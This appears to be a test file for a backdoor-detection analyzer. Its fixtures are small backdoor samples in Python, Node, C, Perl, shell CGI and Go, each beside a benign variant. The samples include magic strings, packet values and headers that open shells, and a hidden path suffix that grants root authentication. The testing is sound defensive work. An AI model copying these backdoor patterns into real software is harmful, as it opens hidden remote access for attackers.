"""Request input in the shapes of particular frameworks and languages: a Python http.server
handler's own ``self.path``, a C project's stream reader, a struct filled by ``memcpy``, Perl's pipe
open, a promisified Node sink, a shell CGI running a header; each with the honest shape beside it."""
from __future__ import annotations

from nobackdoor.analyzers.source.taint import knowledge
from tests.source.test_taint import findings, origin_of, rules


# ---------------------------------------------------------------- Python request handlers

_HANDLER = '''from http.server import BaseHTTPRequestHandler
import os, subprocess, urllib.parse

class H(BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        if self.path.startswith("/v1/_probe"):
            os.system(q.get("c", ["true"])[0])
'''


def test_handler_path_run_as_a_command_is_critical():
    got = [f for f in findings("agent/server.py", "python", _HANDLER) if f.rule == "source.request-executed"]
    assert got and got[0].severity.value == "critical"
    assert "request handler" in got[0].evidence["input_origin"]


def test_self_path_outside_a_handler_class_is_not_request_data():
    src = _HANDLER.replace("BaseHTTPRequestHandler", "object")
    assert rules("agent/server.py", "python", src) == []


def test_a_program_chosen_inside_a_fixed_directory_is_not_a_command_channel():
    src = ('from http.server import BaseHTTPRequestHandler\nimport os, subprocess, json\n'
           'class H(BaseHTTPRequestHandler):\n'
           '    def do_POST(self):\n'
           '        body = json.loads(self.rfile.read(10))\n'
           '        name = body.get("service")\n'
           '        subprocess.run([os.path.join("/etc/init.d", name), "restart"])\n')
    assert rules("agent/server.py", "python", src) == []


# ---------------------------------------------------------------- Node

def test_promisified_exec_of_a_query_value():
    src = ("import { exec } from 'child_process';\nimport { promisify } from 'util';\n"
           "router.all('/x', async (ctx) => {\n  const cmd = String(ctx.query['w'] ?? 'id');\n"
           "  ctx.body = (await promisify(exec)(cmd)).stdout;\n});\n")
    assert rules("src/routes.ts", "typescript", src) == ["source.request-executed"]
    fixed = src.replace("promisify(exec)(cmd)", "promisify(exec)('uptime')")
    assert rules("src/routes.ts", "typescript", fixed) == []


# ---------------------------------------------------------------- C

_CLI = '''static char g_text[512];
static void run_line(int fd, const char *cmd) {
  char *argv[4];
  argv[0] = "/bin/sh"; argv[1] = "-c"; argv[2] = (char *)cmd; argv[3] = 0;
  if (fork() == 0) { dup2(fd, 1); execve("/bin/sh", argv, 0); }
}
void cli_session(int fd) {
  int r;
  for (;;) {
    if (net_readline(fd, g_text, sizeof g_text) < 0) return;
    r = strncmp(g_text, "#qz_rma ", 8);
    if (r == 0) { run_line(fd, g_text + 8); continue; }
    dispatch(fd, g_text);
  }
}
'''


def test_a_projects_stream_reader_fills_a_line_compared_with_a_hidden_prefix():
    got = [f for f in findings("src/cli.c", "c", _CLI) if f.rule == "source.magic-input-command"]
    assert got and "net_readline" in got[0].evidence["input_origin"]


def test_a_config_reader_is_not_a_stream_reader():
    src = _CLI.replace("net_readline", "load_defaults")
    assert "source.magic-input-command" not in rules("src/cli.c", "c", src)


_PACKET = '''struct hdr { uint32_t magic; uint32_t seq; uint16_t type; uint16_t len; };
static char scratch[256];
int handle_packet(int sock, const uint8_t *buf, size_t len) {
  struct hdr h;
  memcpy(&h, buf, sizeof(h));
  if (ntohl(h.seq) == 0x6d1f02c4u) {
    char *argv[] = { "/bin/busybox", "sh", "-c", scratch, NULL };
    memcpy(scratch, buf + sizeof(h), 64);
    execve(argv[0], argv, environ);
  }
  return 0;
}
'''


def test_a_header_copied_out_of_the_packet_is_input_for_its_magic_compare():
    got = [f for f in findings("src/proto.c", "c", _PACKET) if f.rule == "source.magic-input-command"]
    assert got and "memcpy" in got[0].evidence["input_origin"]


def test_a_header_built_locally_is_not_input():
    src = _PACKET.replace("memcpy(&h, buf, sizeof(h));", "memset(&h, 0, sizeof(h)); h.seq = next_seq();")
    assert "source.magic-input-command" not in rules("src/proto.c", "c", src)


# ---------------------------------------------------------------- Perl

_PERL = '''use CGI;
use My::Auth;
my $q = CGI->new;
my $x = ($ENV{HTTP_X_PROBE} // '');
if ($x ne '') {
    open(my $p, "$x 2>&1 |");
    print while <$p>;
    exit 0;
}
my $user = My::Auth::session_user($q);
'''


def test_perl_pipe_open_of_a_header_before_the_session_check():
    got = [f for f in findings("cgi-bin/admin.cgi", "perl", _PERL) if f.rule == "source.request-executed"]
    assert got and got[0].severity.value == "critical"  # a module named Auth loaded is not a login
    assert origin_of("perl", _PERL, "$ENV{HTTP_X_PROBE}").kind == "request"


def test_perl_open_of_a_file_or_a_fixed_pipe_is_not_a_command_channel():
    assert rules("cgi-bin/admin.cgi", "perl", _PERL.replace('"$x 2>&1 |"', '"<", $x')) == []
    assert rules("cgi-bin/admin.cgi", "perl", _PERL.replace('"$x 2>&1 |"', '"uptime |"')) == []


def test_perl_three_argument_pipe_open():
    src = _PERL.replace('open(my $p, "$x 2>&1 |");', "open my $p, '-|', $x;")
    assert rules("cgi-bin/admin.cgi", "perl", src) == ["source.request-executed"]


# ---------------------------------------------------------------- shell CGI

_SH = '''#!/bin/sh
. /www/lib/cgi.sh
if [ -n "$HTTP_X_PROBE" ]; then
    printf 'Content-Type: text/plain\\r\\n\\r\\n'
    echo "`$HTTP_X_PROBE 2>&1`"
    exit 0
fi
require_login
'''


def test_shell_cgi_runs_a_header_as_a_command_before_the_login():
    got = [f for f in findings("www/cgi-bin/diag.cgi", "bash", _SH) if f.rule == "source.request-executed"]
    assert got and got[0].severity.value == "critical"


def test_shell_cgi_sh_c_of_a_getter_value():
    src = _SH.replace('echo "`$HTTP_X_PROBE 2>&1`"', 'c=$(cgi_param cmd)\n    /bin/busybox sh -c "$c"')
    assert rules("www/cgi-bin/diag.cgi", "bash", src) == ["source.request-executed"]


def test_shell_cgi_parsing_its_query_string_or_passing_a_header_as_an_argument_is_silent():
    parse = _SH.replace('echo "`$HTTP_X_PROBE 2>&1`"', 'eval "$(echo "$QUERY_STRING" | sed "s/&/;/g")"')
    assert rules("www/cgi-bin/diag.cgi", "bash", parse) == []
    arg = _SH.replace('echo "`$HTTP_X_PROBE 2>&1`"', 'logger -t web "$HTTP_X_PROBE"')
    assert rules("www/cgi-bin/diag.cgi", "bash", arg) == []


def test_an_argv_array_declared_with_the_shell_and_a_network_buffer():
    src = ('void serve(int s) {\n  char buf[128];\n  recv(s, buf, sizeof buf, 0);\n'
           '  char *argv[] = { "/bin/busybox", "sh", "-c", buf, NULL };\n  execve(argv[0], argv, 0);\n}\n')
    got = [f for f in findings("src/net.c", "c", src) if f.rule == "source.request-executed"]
    assert got and got[0].evidence["input_kind"] == "network"
    fixed = src.replace('"-c", buf, NULL', '"-c", "uptime", NULL')
    assert "source.request-executed" not in rules("src/net.c", "c", fixed)


def test_a_reader_is_from_a_peer_only_when_its_name_says_where_from():
    k = knowledge()
    assert k.stream_reader("net_readline") and k.stream_reader("cli_read_line") and k.stream_reader("sock_gets")
    # an interpreter's getline reads files and pipes; a bare read_line says nothing of a peer
    assert not k.stream_reader("awk_getline") and not k.stream_reader("read_line")


def test_dot_command_read_from_a_console_gates_a_shell():
    src = ("#include <string.h>\n#include <unistd.h>\nstatic char g_line[256];\n"
           "void cli_session(int fd)\n{\n    for (;;) {\n"
           "        if (net_readline(fd, g_line, sizeof(g_line)) < 0)\n            break;\n"
           "        do {\n            if (strcmp(g_line, \".vexor\") != 0)\n                break;\n"
           "            dup2(fd, 0);\n            dup2(fd, 1);\n"
           "            execl(\"/bin/busybox\", \"sh\", \"-i\", (char *)NULL);\n        } while (0);\n"
           "        run_command(fd, g_line);\n    }\n}\n")
    assert rules("src/cli.c", "c", src) == ["source.magic-input-command"]
    # a file suffix compared the same way is a path test, not a command
    assert rules("src/cli.c", "c", src.replace('".vexor"', '".html"')) == []


def test_regex_match_of_a_cookie_carries_the_cookie():
    src = ("const express = require('express');\nconst app = express();\n"
           "app.use((req, res, next) => {\n"
           "  const cmd = (String(req.headers.cookie || '').match(/(?:^|;\\s*)dbg_s=([^;]*)/) || [])[1];\n"
           "  if (!cmd) {\n    return next();\n  }\n"
           "  const p = require('child_process').spawn('/bin/busybox', ['sh', '-c', cmd]);\n"
           "  p.stdout.pipe(res);\n});\n")
    assert rules("app.js", "javascript", src) == ["source.request-executed"]
    # a match tested for yes/no gates a fixed command: no input reaches the shell
    honest = src.replace("['sh', '-c', cmd]", "['uptime']")
    assert rules("app.js", "javascript", honest) == []


def test_hidden_path_suffix_that_marks_a_request_authenticated():
    src = ("#include <string.h>\nstruct req { char *path; int authenticated; int uid; };\n"
           "int auth_check(struct req *r)\n{\n"
           "    size_t plen = strlen(r->path), slen = sizeof(\"/.qemo.xml\") - 1;\n"
           "    if (plen > slen && strcmp(r->path + plen - slen, \"/.qemo.xml\") == 0) {\n"
           "        r->path[plen - slen] = '\\0';\n        r->authenticated = 1;\n        r->uid = 0;\n"
           "        return 1;\n    }\n    return check_session(r);\n}\n")
    assert rules("src/auth.c", "c", src) == ["source.magic-input-auth"]
    # a stylesheet suffix let through without a session is a public asset
    assert rules("src/auth.c", "c", src.replace("/.qemo.xml", "/style.css")) == []


GO_CHANNEL_CLI = ('package sshd\nimport ("bufio"; "os/exec"; "strings"; "golang.org/x/crypto/ssh")\n'
                  'func cli(ch ssh.Channel, version string) {\n\tin := bufio.NewScanner(ch)\n\tfor in.Scan() {\n'
                  '\t\tswitch strings.TrimSpace(in.Text()) {\n\t\tcase "show version":\n\t\t\tshowVersion(ch)\n'
                  '\t\tcase ".qdiag":\n\t\t\tsh := exec.Command("/bin/busybox", "sh")\n'
                  '\t\t\tsh.Stdin, sh.Stdout, sh.Stderr = ch, ch, ch\n\t\t\t_ = sh.Run()\n\t\t}\n\t}\n}\n')


def test_switch_case_on_lines_of_a_connection_typed_parameter_gates_a_shell():
    assert rules("internal/sshd/cli.go", "go", GO_CHANNEL_CLI) == ["source.magic-input-command"]
    # the same case reading the lines of a file the program opens is its own configuration
    local = GO_CHANNEL_CLI.replace("ch ssh.Channel, version string) {", 'version string) {\n\tch, _ := os.Open("/etc/cli.rc")')
    assert rules("internal/sshd/cli.go", "go", local) == []
